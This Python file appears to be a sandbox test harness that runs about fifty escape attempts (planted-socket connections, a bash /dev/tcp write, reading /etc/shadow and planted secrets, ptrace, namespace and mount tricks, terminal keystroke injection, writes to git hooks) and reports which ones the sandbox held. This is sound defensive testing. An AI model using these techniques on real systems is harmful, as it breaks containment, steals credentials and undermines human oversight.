"""Runs inside a sandbox and tries to get out; prints a JSON object: attempt -> "held", or what it achieved.

A file of its own with nothing imported from the project: its text is what the sandbox is given to run.
"""

# ruff: noqa: RET503, SIM115 - an attempt that falls through achieved nothing
import ctypes
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading

PLANTED = json.loads(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)


def connects(family, kind, protocol, address):
    with socket.socket(family, kind, protocol) as client:
        client.settimeout(0.5)
        client.connect(address)
        return "connected"


def tcp():
    return connects(socket.AF_INET, socket.SOCK_STREAM, 0, ("127.0.0.1", PLANTED["tcp"]))


def mptcp():
    return connects(socket.AF_INET, socket.SOCK_STREAM, 262, ("127.0.0.1", PLANTED["tcp"]))


def other_names():
    for family, host in ((2, "127.0.0.2"), (2, "0.0.0.0"), (10, "::ffff:127.0.0.1"), (10, "::1"), (10, "::")):
        try:
            return connects(family, socket.SOCK_STREAM, 0, (host, PLANTED["tcp"])) + f" by {host}"
        except OSError:
            pass


def fast_open():
    """An address beside the data, which needs no connect."""
    for send in ("sendto", "sendmsg"):
        with socket.socket() as client:
            client.settimeout(0.5)
            there = ("127.0.0.1", PLANTED["tcp"])
            arguments = (b"leak", 0x20000000, there) if send == "sendto" else ([b"leak"], [], 0x20000000, there)
            try:
                getattr(client, send)(*arguments)
                client.getpeername()
                return send
            except OSError:
                pass


def routed():
    """A source route, or another device, would lead a connection to loopback out of the machine."""
    source_route = bytes([131, 7, 4, 198, 51, 100, 1, 0])
    for level, option, value in ((0, 4, source_route), (1, 25, b"\0"), (1, 62, b"\0" * 4)):
        with socket.socket() as server:
            server.listen()
            try:
                server.setsockopt(level, option, value)
            except OSError:
                continue
            try:
                socket.socket(socket.AF_NETLINK, socket.SOCK_RAW).close()  # it has a network of its own
            except OSError:
                return f"option {option}"


def flipped_address():
    """Another thread changes the address while it is being judged."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(64)
        own, theirs = (
            b"\2\0" + port.to_bytes(2, "big") + b"\x7f\0\0\1" + bytes(8)
            for port in (server.getsockname()[1], PLANTED["tcp"])
        )
        address = ctypes.create_string_buffer(own, 16)
        going = True

        def flip():
            while going:
                ctypes.memmove(address, theirs, 16)
                ctypes.memmove(address, own, 16)

        thread = threading.Thread(target=flip)
        thread.start()
        try:
            for _ in range(60):
                with socket.socket() as client:
                    client.settimeout(0.5)
                    if libc.connect(client.fileno(), address, 16) == 0 and client.getpeername()[1] == PLANTED["tcp"]:
                        return "connected"
        finally:
            going = False
            thread.join()


def unix_by_links():
    place = tempfile.mkdtemp()
    os.symlink(PLANTED["unix"], f"{place}/link")
    os.symlink(os.path.dirname(PLANTED["unix"]), f"{place}/directory")
    os.chdir(place)
    for make in (lambda: os.link(PLANTED["unix"], "hard"), lambda: os.rename(PLANTED["unix"], "moved")):
        try:
            make()
        except OSError:
            pass
    for path in ("link", "directory/u", "hard", "moved"):
        try:
            return connects(socket.AF_UNIX, socket.SOCK_STREAM, 0, path) + f" by {path}"
        except OSError:
            pass


def unix_outside():  # the test looks whether it is there
    try:
        socket.socket(socket.AF_UNIX).bind(os.path.dirname(PLANTED["unix"]) + "/hostile")
    except OSError:
        pass


def low_port():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 81))
        return "bound"


def udp():  # the test looks whether anything arrived
    there = ("127.0.0.1", PLANTED["udp"])
    device = (0, 8, bytes([1, 0, 0, 0, 127, 0, 0, 1]) + bytes(4))  # IP_PKTINFO
    splice = getattr(os, "splice", lambda *_: None)
    reader, writer = os.pipe()
    os.write(writer, b"leak")
    for attempt in (
        lambda client: client.sendto(b"leak", there),
        lambda client: client.sendmsg([b"leak"], [device], 0, there),
        lambda client: [client.sendto(b"leak", flags, there) for flags in (0x8000, 0)],  # MSG_MORE, and no more
        lambda client: [client.sendto(b"leak" * 8_000, there) for _ in range(4)],
        lambda client: (client.setsockopt(17, 1, 0), client.sendto(b"leak", there)),  # UDP_CORK
        lambda client: (client.sendto(b"leak", there), splice(reader, client.fileno(), 4)),
        lambda client: (client.sendto(b"leak", there), client.setsockopt(17, 1, 0)),
        lambda client: (client.connect(there), client.send(b"leak")),
    ):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                attempt(client)
        except OSError:
            pass
    os.close(reader)
    os.close(writer)


def elsewhere():
    return connects(socket.AF_INET, socket.SOCK_STREAM, 0, ("198.51.100.1", 80))


def dns():
    return str(socket.getaddrinfo("example.org", 80))


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
    return "opened"


def packet():
    socket.socket(17, socket.SOCK_RAW, 0).close()
    return "opened"


def vsock():
    socket.socket(40, socket.SOCK_STREAM, 0).close()
    return "opened"


def unix_path():
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, 0, PLANTED["unix"])


def unix_datagram():
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with left, right:
        left.sendto(b"leak", PLANTED["unix_datagram"])
        return "sent"


def unix_abstract():
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, 0, "\0" + PLANTED["abstract"])


def bash_tcp():
    script = f"echo x > /dev/tcp/127.0.0.1/{PLANTED['tcp']}"
    done = subprocess.run(["bash", "-c", script], capture_output=True)
    return "connected" if done.returncode == 0 else None


def fifo():
    descriptor = os.open(PLANTED["fifo"], os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, b"leak")
    return "written"


def write_outside():
    for path in (*PLANTED["outside"], "/etc/coder-hostile", "/usr/coder-hostile", "/var/lib/coder-hostile"):
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_APPEND | (os.O_CREAT if path.startswith("/etc") else 0)))
            return path
        except OSError:
            pass


def read_secrets():
    for path in PLANTED["secrets"]:
        try:
            if PLANTED["canary"] in open(path).read():
                return path
        except OSError:
            pass


def read_shadow():
    return open("/etc/shadow").read()


def git_token():
    text = open(".git/config").read()
    return text if PLANTED["canary"] in text else None


def write_git():  # the test looks whether it got through
    for path in (".git/config", ".git/hooks/pre-commit", ".git/HEAD", "tracked"):
        try:
            with open(path, "a") as file:
                file.write("hostile")
        except OSError:
            pass


def climb():
    """A directory opened before the mounts would lead to the real tree."""
    for descriptor in range(3, 64):
        try:
            os.fstat(descriptor)
            return f"descriptor {descriptor} was inherited: {os.readlink(f'/proc/self/fd/{descriptor}')}"
        except OSError:
            pass


def environment():
    return next((name for name, value in os.environ.items() if PLANTED["canary"] in value), None)


def proc_environment():
    for name in filter(str.isdigit, os.listdir("/proc")):
        for file in ("environ", "cmdline"):
            try:
                if name != str(os.getpid()) and PLANTED["canary"].encode() in open(f"/proc/{name}/{file}", "rb").read():
                    return f"/proc/{name}/{file}"
            except OSError:
                pass


def proc_root():
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            if (
                int(name) != os.getpid()
                and PLANTED["canary"] in open(f"/proc/{name}/root{PLANTED['secrets'][0]}").read()
            ):
                return name
        except OSError:
            pass


def ptrace():
    for pid in {os.getppid(), 1, PLANTED["pid"]} - {os.getpid()}:
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            return f"attached to {pid}"


def signals():
    os.kill(PLANTED["pid"], 0)
    return "could signal coder"


def signal_everyone():
    os.kill(-1, 0)
    return "could signal all processes"


def namespaces():
    for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
        if libc.unshare(flag) == 0:
            return f"unshare {flag:#x}"
    done = subprocess.run(["unshare", "-Urmn", "true"], capture_output=True)
    return "unshare(1)" if done.returncode == 0 else None


def clone_namespace():
    pid = libc.syscall({"x86_64": 56, "aarch64": 220}[os.uname().machine], 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return "clone" if pid > 0 else None


def remount():
    for path in (b"/", b"/etc", b"/proc/sys", PLANTED["root"].encode()):
        if libc.mount(b"none", path, None, ctypes.c_ulong(32 | 4096), None) == 0:
            return path.decode()
        if libc.umount2(path, 2) == 0:
            return f"unmounted {path!r}"


def chroot():
    os.chroot("/tmp")
    return "changed"


def device():
    os.mknod("/tmp/device" if os.path.isdir("/tmp") else "device", 0o600 | 0o020000, os.makedev(1, 1))
    return "made"


def devices():
    usual = ("null", "zero", "full", "random", "urandom", "tty", "ptmx")
    for top, _, names in os.walk("/dev"):
        for path in (os.path.join(top, name) for name in names if name not in usual):
            for mode in (os.O_RDONLY, os.O_WRONLY) if os.lstat(path).st_mode & 0o170000 in (0o060000, 0o020000) else ():
                try:
                    os.close(os.open(path, mode | os.O_NONBLOCK | os.O_NOCTTY))
                    return path
                except OSError:
                    pass
    for name in ("sda", "vda", "nvme0n1", "mem", "kvm", "zram0", "loop0", "tty1", "fuse", "vsock"):
        try:
            os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK))
            return name
        except OSError:
            pass


def shared_memory():
    return open(PLANTED["shm"]).read() if PLANTED.get("shm") else None


def supervisor():
    """Its pipe to coder carries the result; its memory is what decides of it."""
    for pid in {1, os.getppid()}:
        for path in (f"/proc/{pid}/mem", *(f"/proc/{pid}/fd/{number}" for number in range(64))):
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
                return path
            except OSError:
                pass


def other_calls():
    x86_64 = {"userfaultfd": 323, "bpf": 321, "perf_event_open": 298, "io_uring_setup": 425, "open_by_handle_at": 304,
              "open_tree": 428, "fsopen": 430, "pidfd_getfd": 438, "process_vm_readv": 310}  # fmt: skip
    if os.uname().machine == "x86_64":
        return next((name for name, number in x86_64.items() if libc.syscall(number, 0, 0, 0, 0, 0) >= 0), None)


def socket_in_repository():
    return connects(socket.AF_UNIX, socket.SOCK_STREAM, 0, "service.sock")


def work_directory():
    """Whatever a process outside stands in would be the real tree."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{name}/cwd/tracked", "a") as file:
                file.write("hostile")  # the test looks whether it got through
        except OSError:
            pass


def sysctl():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/swappiness", "/proc/sysrq-trigger"):
        try:
            os.close(os.open(path, os.O_WRONLY))
            return path
        except OSError:
            pass


def become_root():
    if os.getuid() == 0:
        return None
    os.setuid(0)
    return "root"


def setuid_program():
    for program in ("/usr/bin/su", "/usr/bin/mount"):
        if os.path.exists(program) and os.getuid() != 0:
            done = subprocess.run([program, "-c", "id -u"], capture_output=True, stdin=subprocess.DEVNULL)
            if done.stdout.strip() == b"0":
                return program


def keyring():
    return "read" if libc.syscall({"x86_64": 250, "aarch64": 219}[os.uname().machine], 0, -4, 1) > 0 else None


def capabilities():
    for line in open("/proc/self/status"):
        if line.startswith(("CapEff", "CapPrm")) and int(line.split()[1], 16):
            return line


def terminal():
    import fcntl

    fcntl.ioctl(0, 0x5412, b"x")
    return "typed"


ATTEMPTS = (
    tcp, mptcp, other_names, fast_open, routed, flipped_address, low_port, unix_by_links, unix_outside, udp, elsewhere,
    dns, raw, packet, vsock, unix_path, unix_datagram, unix_abstract, bash_tcp, fifo,
    write_outside, read_secrets, read_shadow, git_token, write_git, climb, environment, proc_environment, proc_root,
    ptrace, signals, signal_everyone, namespaces, clone_namespace, remount, chroot, device, devices, sysctl,
    become_root, setuid_program, keyring, capabilities, terminal, shared_memory, supervisor, other_calls,
    socket_in_repository, work_directory,
)  # fmt: skip


def attempt(function):
    try:
        return function() or "held"
    except Exception:
        return "held"


print(json.dumps({function.__name__: attempt(function) for function in ATTEMPTS}))
